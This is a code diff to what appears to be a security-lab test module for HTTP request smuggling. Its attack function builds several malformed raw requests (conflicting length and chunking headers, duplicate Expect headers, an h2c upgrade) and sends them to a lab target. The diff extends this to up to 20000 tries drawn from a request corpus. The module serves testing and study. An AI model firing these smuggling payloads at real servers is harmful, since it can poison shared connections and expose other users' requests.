@@ -1,6 +1,7 @@
 // Request smuggling: the ways in which RFC 9112, sections 6 and 11.2, says that the end of a request can be told in two
 // ways. Gained is that one is served: whoever stands before or behind may have read another.
 import { stored } from '../lib/forge.js';
+import { requests, tries, told } from '../lib/corpus.js';
 
 export function benign(lab) { stored(lab); }
 
@@ -21,7 +22,6 @@ export function attack(lab) {
     `${head.replace('POST', 'post')}${L(doc.length)}\r\n${doc}`, `${head}Expect: 100-continue\r\nExpect: other\r\n${L(doc.length)}\r\n${doc}`, `${head}Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${L(doc.length)}${TE}\r\n${chunks}`,
     `${head}Idempotency-Key: a\r\nIdempotency-Key: b\r\n${L(doc.length)}\r\n${doc}`,
   ];
-  const seen = shapes.map((raw) => lab.http({ raw, timeout: 3000 }));
-  const won = seen.findIndex((r) => (r.status >= 200 && r.status < 300) || r.more.includes('HTTP/1.1 2'));
-  lab.judge(won >= 0, won >= 0 ? `shape ${won + 1} was served` : `${seen.length} shapes: status ${[...new Set(seen.map((r) => r.status))]}`);
+  const cases = shapes.concat(requests(head, doc));
+  told(lab, cases, tries(cases, 20000, (raw) => lab.http({ raw, timeout: 3000 })), (r) => (r.status >= 200 && r.status < 300) || r.more.includes('HTTP/1.1 2'));
 }
